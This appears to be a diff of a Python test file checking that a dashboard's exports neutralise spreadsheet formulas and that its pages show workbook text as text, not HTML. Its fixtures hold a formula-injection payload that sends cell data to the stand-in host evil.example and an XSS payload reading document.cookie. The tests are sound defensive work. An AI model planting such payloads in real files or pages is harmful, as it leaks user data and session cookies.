@@ -11,7 +11,7 @@ from etl.loading import warehouse
 from etl.loading.loader import load_blobs
 from figures import export, queries
 from tests.builders import EVENT_HEADER
-from tests.dashboard_support import assert_clean, goto, open_app, styles
+from tests.dashboard_support import assert_clean, open_app
 
 THEME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
 PLACE = "<img src=x onerror=alert(document.cookie)>"
@@ -60,12 +60,14 @@ def test_csv_and_excel_exports_neutralise_formulas_from_workbooks(books, demo_db
 
 def test_pages_show_workbook_text_as_text_never_as_html(books, demo_db, monkeypatch):
     load_hostile(books, demo_db)
-    at = goto(open_app(demo_db, monkeypatch, {"from": "2022", "to": "2022"}), "outreach")
+    at = open_app(demo_db, monkeypatch, {"from": "2022", "to": "2022"}, page="outreach")
     assert_clean(at)
     shown = [frame.value.astype(str).to_numpy().ravel().tolist() for frame in at.dataframe]
     assert any(PLACE in cells for cells in shown), "the event is listed, as data"
     for element in at.markdown:
         assert not element.proto.allow_html, "no Markdown on a page may carry HTML"
-    # The only HTML is the frame's own static CSS, with nothing from a workbook in it.
-    html = styles(at)
-    assert html.startswith("<style>") and "<img" not in html and "HYPERLINK" not in html and PLACE not in html
+    # The only HTML is the frame's own static CSS and, on a session's first page, its script
+    # that preloads the chart code (ui/start.py), with nothing from a workbook in either.
+    for html in (element.proto.body for element in at.get("html")):
+        assert html.startswith("<style>") or (html.startswith("<script>") and "PlotlyChart." in html), html[:80]
+        assert "<img" not in html and "HYPERLINK" not in html and PLACE not in html
